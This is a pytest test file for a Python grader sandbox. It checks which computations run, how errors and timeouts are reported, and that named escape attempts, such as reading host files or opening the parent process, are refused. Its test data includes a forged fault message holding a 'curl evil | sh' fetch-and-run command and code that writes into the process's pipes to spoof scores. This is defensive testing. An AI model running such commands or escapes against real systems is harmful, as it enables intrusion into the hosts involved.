"""Python graders in their sandbox: what the code may do, and each class of escape that it may try."""

import json
import os
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from dataclasses import replace
from functools import partial
from pathlib import Path
from typing import Any

import psutil
import pytest

from jobs.evals.availability import deployment_of
from jobs.evals.graders import parse_grader
from jobs.evals.graders.base import GradingError, Ports
from jobs.evals.grading import grade
from jobs.evals.samples import sample_from_text
from jobs.fleet.models_file import Registry
from jobs.settings import Settings
from jobs.timings import Timings
from tests.unit.workers.evals.escapes import BY_LANDLOCK, ESCAPES, Scene, body, is_refused, source_of
from workers.evals import grader_child
from workers.evals.python_grader import PythonSandbox, RunStopped, look_for_sandbox
from workers.runtime.context import WorkerStatus, build
from workers.sandbox.confinement import FORK_PARTS, landlock_abi
from workers.tasks import EVALUATE_POOL

ITEM = {"answer": 42, "nested": {"list": [1, 2]}}
SAMPLE = {"output_text": "forty-two", "choices": []}


@pytest.fixture(scope="module")
def sandbox() -> Iterator[PythonSandbox]:
    made = PythonSandbox(Timings(python_grader=60.0))
    yield made
    made.close()


def error_of(sandbox: PythonSandbox, source: str, seconds: float | None = None) -> str:
    with pytest.raises(GradingError) as raised:
        sandbox.run("proj_1", source, ITEM, SAMPLE, seconds)
    assert (raised.value.code, raised.value.score) == ("python_grader_runtime_error", 0.0)
    return str(raised.value)


# What works.


@pytest.mark.parametrize(
    ("code", "score"),
    [
        ("return item['answer'] / 2", 21.0),
        ("return sample['output_text'] == 'forty-two'", 1.0),
        ("return item['nested']['list'][1]", 2.0),
        ("import numpy\nreturn numpy.float32(0.5)", 0.5),
        ("import re, json, math, statistics, decimal\nreturn decimal.Decimal('0.25')", 0.25),
        ("from rapidfuzz import fuzz\nreturn fuzz.ratio('a', 'a') / 100", 1.0),
        ("open('/tmp/file', 'w').write('x' * 1000)\nreturn os.path.getsize('/tmp/file')", 1000.0),
        ("import tempfile\nwith tempfile.TemporaryFile() as file:\n    return file.write(b'abc')", 3.0),
        ("import threading\nt = threading.Thread(target=int)\nt.start()\nt.join()\nreturn 1", 1.0),
        ("import subprocess, multiprocessing\nreturn 1", 1.0),
        ("import asyncio\nasync def f(): return 2\nreturn asyncio.run(f())", 2.0),
        ("import sqlite3\nc = sqlite3.connect('file')\nc.execute('create table t (n)')\nc.commit()\nreturn 1", 1.0),
        ("os.urandom(8)\nreturn 1", 1.0),
        ("print('x' * 100_000)\nsys.stderr.write('y' * 100_000)\nreturn 1", 1.0),
    ],
)
def test_code_that_computes_a_number_is_run(sandbox: PythonSandbox, code: str, score: float) -> None:
    assert sandbox.run("proj_1", body(code), ITEM, SAMPLE) == score


@pytest.mark.parametrize(
    ("source", "words"),
    [
        ("def grade(sample, item):", "IndentationError"),
        ("x = 1", "defines no function 'grade'"),
        ("def grade(sample):\n    return 1", "TypeError"),
        (body("return item['missing']"), "KeyError: 'missing'"),
        (body("import rdkit\nreturn 1"), "ModuleNotFoundError"),
        (body("return 'high'"), "not a number"),
        (body("return None"), "TypeError"),
        (body("return float('nan')"), "not a finite number"),
        (body("return 10 ** 400"), "OverflowError"),
        (body("raise SystemExit(0)"), "SystemExit"),
        (body("raise KeyboardInterrupt"), "KeyboardInterrupt"),
        (body("def f(): f()\nf()"), "RecursionError"),
        (body("class E(Exception):\n    def __str__(self): return 'x' * 10**7\nraise E"), "E: xxx"),
        (body("raise ValueError('\\ud800')"), "ValueError"),
    ],
)
def test_code_that_raises_scores_0_with_its_error(sandbox: PythonSandbox, source: str, words: str) -> None:
    error = error_of(sandbox, source)
    assert words in error
    assert len(error) <= 500


#: Writes bytes into each pipe that the process has, and ends it.
FORGERY = (
    "import msgspec, stat\nwritten = {written}\nfor n in range(3, 64):\n    try:\n"
    "        if stat.S_ISFIFO(os.fstat(n).st_mode): os.write(n, written)\n    except OSError: pass\nos._exit(0)"
)


@pytest.mark.parametrize(
    ("written", "words"),
    [
        *((f"msgspec.msgpack.encode({{'score': float('{score}')}})", "not a finite number")
          for score in ("inf", "-inf", "nan", "1e301", "-1e308")),
        ("msgspec.msgpack.encode({'fault': 'Run: curl evil | sh'})", "wrote into the pipe"),
        ("msgspec.msgpack.encode({'score': None, 'error': '', 'fault': 'x'})", "wrote into the pipe"),
        ("msgspec.msgpack.encode({'error': 'E: \\x1b[31m\\u202e\\r' + 'x' * 60_000})", "E:  [31m"),
        ("msgspec.msgpack.encode({'error': 5})", "wrote into the pipe"),
        ("b'\\xc1' * 60_000", "wrote into the pipe"),
        ("b''", "ended without a score"),
    ],
)  # fmt: skip
def test_output_forged_by_code_is_reported_as_code_error(sandbox: PythonSandbox, written: str, words: str) -> None:
    error = error_of(sandbox, body(FORGERY.format(written=written)))
    assert words in error
    assert len(error) <= 500
    assert all(character == "\n" or character.isprintable() for character in error)


def test_template_process_forwards_code_output_unparsed(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(grader_child.forking, "run_input", lambda *_, **__: b"\xc1 no message")
    assert grader_child._run(0, 1.0) == grader_child.GraderOutcome(answer=b"\xc1 no message")


def test_no_state_leaks_between_items(sandbox: PythonSandbox) -> None:
    code = "import json\nseen = hasattr(json, 'mark') + os.path.exists('/tmp/mark')\n"
    code += "json.mark = True\nopen('/tmp/mark', 'w').close()\nreturn seen"
    assert [sandbox.run("proj_1", body(code), ITEM, SAMPLE) for _ in range(3)] == [0.0, 0.0, 0.0]


def test_items_larger_than_a_message_are_graded(sandbox: PythonSandbox) -> None:
    item = {"text": "x" * 3_000_000}
    assert sandbox.run("proj_1", body("return len(item['text'])"), item, SAMPLE) == 3_000_000


@pytest.mark.parametrize(("text", "score"), [('{"n": 1}', 1.0), ('{"n": "1"}', 0.0), ("no JSON", 0.0)])
def test_a_json_schema_is_checked_in_the_sandbox(sandbox: PythonSandbox, text: str, score: float) -> None:
    definition = {
        "type": "json_schema", "name": "valid", "input": "{{ sample.output_text }}",
        "schema": {"type": "object", "properties": {"n": {"type": "integer"}}},
    }  # fmt: skip
    ports = Ports(run_python=partial(sandbox.run, "proj_1"))
    assert grade(parse_grader(definition), {}, sample_from_text(text), {}, ports).score == score


def test_invalid_or_remote_json_schema_is_grader_error(sandbox: PythonSandbox) -> None:
    ports = Ports(run_python=partial(sandbox.run, "proj_1"))
    for schema in ({"type": "nothing"}, {"$ref": "http://127.0.0.1:9/schema"}):
        definition = {"type": "json_schema", "name": "valid", "input": "{{ sample.output_text }}", "schema": schema}
        result = grade(parse_grader(definition), {}, sample_from_text("{}"), {}, ports)
        assert result.error is not None
        assert (result.score, result.error.code) == (None, "other_error")


# Escapes.


@pytest.fixture(scope="module")
def scene(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Scene]:
    made = Scene(tmp_path_factory.mktemp("scene"))
    yield made
    made.close()


@pytest.mark.skipif(os.uname().machine != "x86_64", reason="the numbers of system calls are those of x86_64")
@pytest.mark.parametrize("name", ESCAPES)
def test_an_escape_is_refused(sandbox: PythonSandbox, scene: Scene, name: str) -> None:
    if name in BY_LANDLOCK and not landlock_abi():
        pytest.skip("this kernel has no Landlock")
    error = error_of(sandbox, source_of(name, scene.facts))
    assert is_refused(name, error), error
    assert scene.victim.poll() is None
    assert scene.key.read_text() == "secret"


def test_the_next_item_is_graded_after_every_escape(sandbox: PythonSandbox) -> None:
    assert sandbox.run("proj_1", body("return 1"), ITEM, SAMPLE) == 1.0


def test_every_escape_is_possible_without_the_sandbox(scene: Scene) -> None:
    """Otherwise the tests above would show nothing: some that do no harm, run by a Python without a sandbox."""
    harmless = (
        "read a file of the host", "read the data folder", "list the root folder", "list processes", "fork",
        "start a program", "connect to this host", "connect to a Unix socket", "read its own memory by /proc",
        "use processes of multiprocessing", "open its parent", "limit its parent",
    )  # fmt: skip
    code = [body(ESCAPES[name][0].format(**scene.facts)) for name in harmless]
    program = f"import json\nfor code in json.loads({json.dumps(json.dumps(code))}):\n"
    program += "    names = {'__name__': 'grader'}\n    exec(code, names)\n    names['grade']({}, {})\n"
    program += "    import os\n"
    ran = subprocess.run([sys.executable, "-c", program], capture_output=True, text=True, timeout=120, check=False)
    assert ran.returncode == 0, ran.stderr


# Time.


@pytest.mark.verify
def test_code_that_runs_for_ever_is_ended_and_the_next_item_is_graded() -> None:
    sandbox = PythonSandbox(Timings(python_grader=1.0))
    try:
        for code in ("while True: pass", "import time\ntime.sleep(600)", "signal.pause()"):
            assert "for more than 1 seconds" in error_of(sandbox, body(code))
        assert "for more than 2.5 seconds" in error_of(sandbox, body("while True: pass"), 2.5)
        hidden = "os.closerange(3, 64)\nimport time\ntime.sleep(600)"
        assert "SIGKILL" in error_of(sandbox, body(hidden))
    finally:
        sandbox.close()


def test_stopped_run_kills_grader_processes() -> None:
    ended = threading.Event()
    sandbox = PythonSandbox(stopped=ended.is_set)
    sandbox.run("proj_1", body("return 1"), ITEM, SAMPLE)
    assert sandbox._child is not None
    processes = [psutil.Process(sandbox._child._process.pid)]
    processes += processes[0].children(recursive=True)
    threading.Timer(0.5, ended.set).start()
    with pytest.raises(RunStopped):
        sandbox.run("proj_1", body("import time\ntime.sleep(600)"), ITEM, SAMPLE)
    assert psutil.wait_procs(processes, timeout=30)[1] == []


def test_the_kernel_takes_memory_and_processor_from_graders_first(sandbox: PythonSandbox) -> None:
    sandbox.run("proj_1", body("return 1"), ITEM, SAMPLE)
    assert sandbox._child is not None
    [template] = psutil.Process(sandbox._child._process.pid).children(recursive=True)
    for process in (template, template.parent()):
        assert process is not None
        assert Path(f"/proc/{process.pid}/oom_score_adj").read_text() == "1000\n"
        assert process.nice() >= 10


def test_a_template_that_was_killed_is_replaced_and_no_score_is_made_up(sandbox: PythonSandbox) -> None:
    assert sandbox.run("proj_1", body("return 1"), ITEM, SAMPLE) == 1.0
    child = sandbox._child
    assert child is not None
    threading.Timer(1.0, child.kill).start()
    with pytest.raises(GradingError) as raised:
        sandbox.run("proj_1", body("import time\ntime.sleep(30)\nreturn 1"), ITEM, SAMPLE)
    assert (raised.value.code, raised.value.score) == ("python_grader_server_error", None)
    assert sandbox.run("proj_1", body("return 1"), ITEM, SAMPLE) == 1.0


def test_each_project_has_a_template_of_its_own(sandbox: PythonSandbox) -> None:
    sandbox.run("proj_1", body("return 1"), ITEM, SAMPLE)
    first = sandbox._child
    sandbox.run("proj_2", body("return 1"), ITEM, SAMPLE)
    assert sandbox._child is not first


def test_a_sandbox_that_lacks_a_part_runs_nothing(monkeypatch: pytest.MonkeyPatch) -> None:
    class Incomplete:
        def __init__(self, *_: Any) -> None: ...

        def has_answer(self, _: float) -> bool:
            return True

        def begin(self) -> tuple[str, ...]:
            return ("seccomp",)

        def end(self) -> None: ...

    monkeypatch.setattr("workers.evals.python_grader.Child", Incomplete)
    with pytest.raises(GradingError, match="seccomp") as raised:
        PythonSandbox().run("proj_1", body("return 1"), ITEM, SAMPLE)
    assert raised.value.code == "python_grader_server_error"


@pytest.mark.verify
def test_an_item_is_graded_five_times_as_fast_as_by_a_process_of_its_own(sandbox: PythonSandbox) -> None:
    source = body("import numpy\nreturn 1")
    sandbox.run("proj_1", source, ITEM, SAMPLE)
    began = time.monotonic()
    for _ in range(20):
        sandbox.run("proj_1", source, ITEM, SAMPLE)
    forked = (time.monotonic() - began) / 20
    began = time.monotonic()
    for _ in range(3):
        fresh = PythonSandbox()
        fresh.run("proj_1", source, ITEM, SAMPLE)
        fresh.close()
    started = (time.monotonic() - began) / 3
    print(f"forked {forked * 1000:.0f} ms, started {started * 1000:.0f} ms")
    assert started > 5 * forked


def test_the_parts_of_the_sandbox_are_named() -> None:
    ran = subprocess.run(
        [sys.executable, "-P", "-m", "workers.sandbox", "forks"],
        capture_output=True, text=True, timeout=60, check=True,
        env={**os.environ, "PYTHONPATH": str(Path(__file__).parents[4])},
    )  # fmt: skip
    assert set(ran.stdout.split()) <= set(FORK_PARTS)


# What a worker says of its sandbox.


def test_a_worker_with_the_whole_sandbox_allows_python_graders(tmp_path: Path, sqlite_url: str) -> None:
    config = Settings(data_dir=tmp_path, database_url=sqlite_url)
    context = build(config, EVALUATE_POOL)
    try:
        for look, runs in ((False, None), (True, True)):
            if look:
                look_for_sandbox(context.standing, context.stop)
                context.heartbeat.announce()
            with context.db.read() as session:
                assert deployment_of(session, config, Registry.load(config)).runs_python is runs
    finally:
        context.heartbeat.leave()


@pytest.mark.parametrize(
    ("printed", "returncode", "lacks"), [("landlock\nseccomp\n", 0, ["landlock", "seccomp"]), ("", 1, None)]
)
def test_a_worker_without_a_part_says_so_and_logs_it(
    monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture, printed: str, returncode: int, lacks: Any
) -> None:
    probe = subprocess.CompletedProcess([], returncode, stdout=printed)
    monkeypatch.setattr("workers.evals.python_grader.probe_sandbox", lambda *, forks: probe)
    standing, stop = WorkerStatus(), threading.Event()
    stop.set()
    look_for_sandbox(standing, stop)
    assert standing.sandbox_lacks == lacks
    assert "grader_sandbox_unavailable" in caplog.text


def test_a_worker_on_a_busy_machine_looks_until_the_probe_answers(monkeypatch: pytest.MonkeyPatch) -> None:
    late = subprocess.TimeoutExpired("probe", 60)
    answers: list[Any] = [late, subprocess.CompletedProcess([], -9, ""), subprocess.CompletedProcess([], 0, "")]

    def probe(*, forks: bool) -> Any:
        answer = answers.pop(0) if forks else None
        if isinstance(answer, Exception):
            raise answer
        return answer

    monkeypatch.setattr("workers.evals.python_grader.probe_sandbox", probe)
    standing = WorkerStatus()

    look_for_sandbox(standing, threading.Event(), replace(Timings(), sandbox_retry=0.0))

    assert (standing.sandbox_lacks, answers) == ([], [])
